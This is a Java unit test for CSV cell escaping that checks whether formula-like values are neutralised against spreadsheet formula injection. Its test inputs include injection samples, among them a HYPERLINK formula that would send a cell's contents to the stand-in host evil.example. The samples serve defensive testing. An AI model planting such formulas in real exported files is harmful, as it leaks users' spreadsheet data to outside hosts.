package io.rapport.tables;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

  @Test
  void text_stays_text() {
    assertThat(text("")).isEqualTo("\"\"");
    assertThat(text("Quick, \"friendly\"\nand 100 % = fine"))
        .isEqualTo("\"Quick, \"\"friendly\"\"\nand 100 % = fine\"");
    assertThat(text("9")).isEqualTo("\"9\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1-1",
        "-1 ",
        " -1",
        "-1\n",
        "-",
        "-１",
        "-0x1F",
        "-A1",
        "+1,5",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "=HYPERLINK(\"http://evil.example?\"&A1)"
      })
  void no_spreadsheet_takes_it_for_a_formula(String text) {
    assertThat(text(text)).startsWith("\"'").contains(text.replace("\"", "\"\""));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "+1", "-12.50", "-1e-7", "+4E+2"})
  void a_number_that_somebody_wrote_is_no_formula(String number) {
    assertThat(text(number)).isEqualTo('"' + number + '"');
  }

  @Test
  void a_number_is_written_to_its_last_digit_and_without_an_exponent() {
    assertThat(CsvCell.number(new BigDecimal("-1234567890123456789.00")).written())
        .isEqualTo("-1234567890123456789.00");
    assertThat(CsvCell.number(new BigDecimal("1E+3")).written()).isEqualTo("1000");
    assertThat(CsvCell.number(Long.MIN_VALUE).written()).isEqualTo("-9223372036854775808");
  }

  @Test
  void nothing_is_no_empty_text() {
    assertThat(CsvCell.EMPTY.written()).isEmpty();
  }

  private static String text(String text) {
    return CsvCell.text(text).written();
  }
}
